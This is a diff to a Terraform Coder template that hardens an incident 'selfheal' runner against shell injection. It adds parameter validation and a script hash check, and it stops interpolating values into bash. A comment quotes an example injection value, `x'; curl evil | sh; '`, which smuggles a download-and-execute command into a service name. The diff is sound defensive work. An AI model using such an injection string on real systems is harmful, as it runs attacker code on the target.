@@ -38,6 +38,10 @@ data "coder_parameter" "incident_id" {
   name    = "incident_id"
   type    = "string"
   mutable = false
+  validation {
+    regex = "^[A-Za-z0-9_-]{1,64}$"
+    error = "an incident id is 1 to 64 letters, digits, '-' or '_'"
+  }
 }
 data "coder_parameter" "service" {
   name    = "service"
@@ -49,12 +53,30 @@ data "coder_parameter" "severity" {
   type    = "string"
   mutable = false
   default = "high"
+  validation {
+    regex = "^(high|low)$"
+    error = "severity is high or low"
+  }
 }
 data "coder_parameter" "fix_script_b64" {
   name        = "fix_script_b64"
   type        = "string"
   mutable     = false
   description = "The rendered runbook action (or approved script), base64-encoded."
+  validation {
+    regex = "^[A-Za-z0-9+/]*={0,2}$"
+    error = "the fix script must be base64"
+  }
+}
+data "coder_parameter" "fix_script_sha256" {
+  name        = "fix_script_sha256"
+  type        = "string"
+  mutable     = false
+  description = "SHA-256 of the decoded fix script: the runner refuses any other script."
+  validation {
+    regex = "^[0-9a-f]{64}$"
+    error = "a lowercase hex SHA-256"
+  }
 }
 data "coder_parameter" "target" {
   name        = "target"
@@ -70,30 +92,32 @@ data "coder_parameter" "target_cidr" {
   description = "Egress allowed for the fix (narrow this to the service's CIDR)."
 }
 
+# Parameter values reach the runner only as environment variables: no value is ever pasted into
+# script text, so a service name like `x'; curl evil | sh; '` stays a name. (The old template
+# interpolated them into single-quoted bash: any apostrophe broke every fix for that service.)
 resource "coder_agent" "runner" {
   os   = "linux"
   arch = "amd64"
+  env = {
+    SELFHEAL_INCIDENT          = data.coder_parameter.incident_id.value
+    SELFHEAL_SERVICE           = data.coder_parameter.service.value
+    SELFHEAL_SEVERITY          = data.coder_parameter.severity.value
+    SELFHEAL_TARGET            = data.coder_parameter.target.value
+    SELFHEAL_FIX_SCRIPT_B64    = data.coder_parameter.fix_script_b64.value
+    SELFHEAL_FIX_SCRIPT_SHA256 = data.coder_parameter.fix_script_sha256.value
+  }
 }
 
 resource "coder_script" "fix" {
   agent_id           = coder_agent.runner.id
-  display_name       = "selfheal fix for ${data.coder_parameter.incident_id.value}"
+  display_name       = "selfheal fix"
   run_on_start       = true
   start_blocks_login = true
   timeout            = 600 # seconds; exceeding it marks the agent start_timeout
   log_path           = "selfheal-fix.log"
-  script             = <<-EOT
-    #!/usr/bin/env bash
-    set -euo pipefail
-    export SELFHEAL_INCIDENT='${data.coder_parameter.incident_id.value}'
-    export SELFHEAL_SERVICE='${data.coder_parameter.service.value}'
-    export SELFHEAL_TARGET='${data.coder_parameter.target.value}'
-    echo "selfheal: running the fix for $SELFHEAL_INCIDENT on $SELFHEAL_SERVICE"
-    echo '${data.coder_parameter.fix_script_b64.value}' | base64 -d > /tmp/selfheal-fix.sh
-    sha256sum /tmp/selfheal-fix.sh
-    # A non-zero exit marks the agent start_error, which selfheal reads as "fix failed".
-    bash /tmp/selfheal-fix.sh
-  EOT
+  # file(), not a template: the runner's text is the same for every workspace. A non-zero exit
+  # marks the agent start_error, which selfheal reads as "fix failed".
+  script = file("${path.module}/fix.sh")
 }
 
 resource "kubernetes_pod" "runner" {
